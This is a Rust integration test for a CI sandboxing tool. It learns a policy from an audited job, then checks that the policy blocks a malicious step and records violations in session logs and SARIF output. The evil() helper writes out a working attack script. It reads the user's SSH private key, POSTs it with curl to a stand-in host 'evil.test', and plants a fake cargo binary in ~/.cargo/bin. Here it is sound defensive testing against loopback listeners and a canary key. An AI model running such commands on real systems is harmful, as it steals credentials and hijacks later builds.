//! The round trip a new user takes (issue 12): `vetto ci --audit` of a
//! small job → `vetto policy suggest` of its session log → the
//! suggestion, checked, as the policy file → an enforcing `vetto ci
//! --policy` of the same job with zero violations; then a malicious step
//! added to the same job under the same policy is blocked and reported.
//!
//! The job reads a config, writes its cache directory in `$HOME` and
//! fetches from an HTTP stand-in on the host's loopback (pinned with
//! `--resolve`, as a real API host would be reached through the proxy).

use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::Value;

use crate::util::{self, Out, Tier, World};
use crate::{at_every_tier, require};

/// The planted key's content: finding it at the stand-in is the leak.
const KEY_CANARY: &str = "CANARY-ed25519-round-trip-6d1e";
const API_BODY: &str = "API-DATA-3f9a";

/// An HTTP stand-in on the host's loopback that answers every request
/// with `body` and keeps each request (head and body, at most 64 KiB).
struct Stand {
    port: u16,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Stand {
    fn start(body: &'static str) -> Stand {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let kept = seen.clone();
        std::thread::spawn(move || {
            for s in l.incoming().flatten() {
                let Some(request) = util::read_http_request(&s) else {
                    continue;
                };
                kept.lock().unwrap().push(request);
                util::reply_http_ok(&s, body);
            }
        });
        Stand { port, seen }
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// The job: reads its config (the project's, and `~/.cargo/config.toml`,
/// readable by default), writes its cache in `~/.cache/demo-tool`, fetches
/// from the API host.
fn job(api_port: u16) -> String {
    format!(
        "set -e\n\
         cat config/app.toml > /dev/null\n\
         cat \"$HOME/.cargo/config.toml\" > /dev/null\n\
         echo warm > \"$HOME/.cache/demo-tool/index\"\n\
         curl -sSf -m 30 http://api.test:{api_port}/data -o fetched.txt\n\
         cat fetched.txt; echo\n\
         echo job-done\n"
    )
}

/// The malicious step: read the user's ssh key, POST it to a host no
/// policy names, plant a `cargo` that a later unsandboxed build would run.
fn evil(evil_port: u16) -> String {
    format!(
        "key=$(cat \"$HOME/.ssh/id_ed25519\" 2>/dev/null || echo NO-KEY)\n\
         curl -s -m 30 -X POST --data \"exfil:$key\" http://evil.test:{evil_port}/upload -o /dev/null\n\
         mkdir -p \"$HOME/.cargo/bin\" && printf '#!/bin/sh\\necho pwned\\n' > \"$HOME/.cargo/bin/cargo\"\n\
         echo evil-done\n"
    )
}

fn vetto_ci(w: &World, options: &[&str], script: &str) -> Out {
    let project = w.project.to_str().unwrap();
    let mut args = vec!["ci", "--project", project];
    args.extend_from_slice(options);
    args.extend_from_slice(&["--", "sh", "-c", script]);
    w.vetto(&args).timeout(Duration::from_secs(120)).run()
}

fn violations(report: &Path) -> Vec<Value> {
    std::fs::read_to_string(report.join("session.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["type"] == "violation")
        .collect()
}

fn sarif_rule_ids(report: &Path) -> Vec<String> {
    let text = std::fs::read_to_string(report.join("vetto.sarif")).unwrap_or_default();
    let sarif: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
    sarif["runs"][0]["results"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|r| r["ruleId"].as_str().map(str::to_owned))
        .collect()
}

/// Runs as an unprivileged user: audit → suggest → check → an enforcing
/// run with zero violations (exit 0); then the same job with a malicious
/// step, which bare reads the key, delivers it and plants
/// `~/.cargo/bin/cargo`, and under the suggested policy does none of it,
/// with `net-egress-blocked` and `fs-write-denied` (and at FULL, where the
/// masked key is a trap that sees reads, `secret-read-denied`) in
/// session.jsonl and the SARIF.
fn an_audited_job_learns_a_policy_that_passes_and_still_stops_a_malicious_step(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let api = Stand::start(API_BODY);
    let exfil = Stand::start("thanks");
    w.write(
        &w.project.join("config/app.toml"),
        "[server]\nretries = 3\n",
    );
    w.write(&w.home.join(".cache/demo-tool/.keep"), "");
    w.write(
        &w.home.join(".ssh/id_ed25519"),
        &format!(
            "-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY_CANARY}\n-----END OPENSSH PRIVATE KEY-----\n"
        ),
    );
    let job = job(api.port);
    let pins = [
        "--resolve",
        "api.test:127.0.0.1",
        "--resolve",
        "evil.test:127.0.0.1",
    ];
    let report = |name: &str| w.root.join(name);

    // 1. Audit, under a policy that only says "the network goes through
    //    the proxy" (so the names it contacts are recorded).
    w.write(
        &w.root.join("audit.toml"),
        "extends = [\"default\"]\n\n[network]\nmode = \"allow\"\n",
    );
    let audit_dir = report("audit");
    let audited = vetto_ci(
        &w,
        &[
            &[
                "--audit",
                "--policy",
                w.root.join("audit.toml").to_str().unwrap(),
            ][..],
            &pins,
            &["--report-dir", audit_dir.to_str().unwrap()],
        ]
        .concat(),
        &job,
    );
    audited
        .assert_success()
        .assert_stdout_contains(API_BODY)
        .assert_stdout_contains("job-done");

    // 2. Suggest, 3. write and check.
    let suggested = w
        .vetto(&[
            "policy",
            "suggest",
            audit_dir.join("session.jsonl").to_str().unwrap(),
        ])
        .run();
    suggested.assert_success();
    let toml = suggested.stdout();
    assert!(toml.contains("\"~/.cache/demo-tool\""), "{toml}");
    assert!(
        toml.contains(&format!("\"api.test:{}\"", api.port)),
        "{toml}"
    );
    let policy = w.root.join("suggested.toml");
    w.write(&policy, &toml);
    let policy_s = policy.to_str().unwrap();
    w.vetto(&["policy", "check", policy_s])
        .run()
        .assert_success();
    std::fs::remove_file(w.home.join(".cache/demo-tool/index")).unwrap();
    std::fs::remove_file(w.project.join("fetched.txt")).unwrap();

    // 4. Enforcing, the same job: zero violations, exit 0.
    let tier_opts = ["--tier", tier.name(), "--policy", policy_s];
    let clean_dir = report("enforced");
    let clean = vetto_ci(
        &w,
        &[
            &tier_opts[..],
            &pins,
            &["--report-dir", clean_dir.to_str().unwrap()],
        ]
        .concat(),
        &job,
    );
    clean
        .assert_success()
        .assert_stdout_contains(API_BODY)
        .assert_stdout_contains("job-done");
    assert_eq!(
        violations(&clean_dir),
        Vec::<Value>::new(),
        "{}",
        clean.dump()
    );
    assert_eq!(
        crate::util::read(&w.home.join(".cache/demo-tool/index")).as_deref(),
        Some("warm\n")
    );

    // 5. The malicious step works bare…
    let evil = evil(exfil.port);
    let bare = w
        .bare(&["sh", "-c", &evil.replace("evil.test", "127.0.0.1")])
        .run();
    bare.assert_success();
    assert!(
        exfil.seen().iter().any(|r| r.contains(KEY_CANARY)),
        "bare, the key did not arrive: {:?}\n{}",
        exfil.seen(),
        bare.dump()
    );
    let planted = w.home.join(".cargo/bin/cargo");
    assert!(planted.is_file(), "bare, the cargo was not planted");
    std::fs::remove_dir_all(w.home.join(".cargo/bin")).unwrap();
    let before = exfil.seen().len();

    // …and, added to the job under the same policy, does nothing.
    let bad_dir = report("malicious");
    let bad = vetto_ci(
        &w,
        &[
            &tier_opts[..],
            &pins,
            &["--report-dir", bad_dir.to_str().unwrap()],
        ]
        .concat(),
        &format!("{job}{evil}"),
    );
    bad.assert_stdout_contains("job-done")
        .assert_stdout_contains("evil-done")
        .assert_no_leak(KEY_CANARY);
    assert_eq!(
        bad.code(),
        3,
        "the command passed, violations were recorded (--fail-on violation)\n{}",
        bad.dump()
    );
    assert_eq!(
        exfil.seen().len(),
        before,
        "a request reached the exfiltration host: {:?}",
        exfil.seen()
    );
    assert!(
        !planted.exists(),
        "~/.cargo/bin/cargo was planted\n{}",
        bad.dump()
    );

    let found = violations(&bad_dir);
    let has = |rule: &str, needle: &str| {
        found
            .iter()
            .any(|v| v["rule"] == rule && v["target"].to_string().contains(needle))
    };
    let mut want = vec![
        ("net-egress-blocked", "evil.test"),
        ("fs-write-denied", ".cargo/bin"),
    ];
    if tier == Tier::Full {
        want.push(("secret-read-denied", ".ssh/id_ed25519"));
    }
    let sarif = sarif_rule_ids(&bad_dir);
    for (rule, needle) in want {
        assert!(has(rule, needle), "no {rule} on {needle} in {found:#?}");
        assert!(
            sarif.iter().any(|r| r == rule),
            "no {rule} in the SARIF: {sarif:?}"
        );
    }
    assert!(
        !found
            .iter()
            .any(|v| v["target"].to_string().contains("api.test")
                || v["target"].to_string().contains("demo-tool")),
        "the learned part of the job was reported: {found:#?}"
    );
}
at_every_tier!(an_audited_job_learns_a_policy_that_passes_and_still_stops_a_malicious_step);
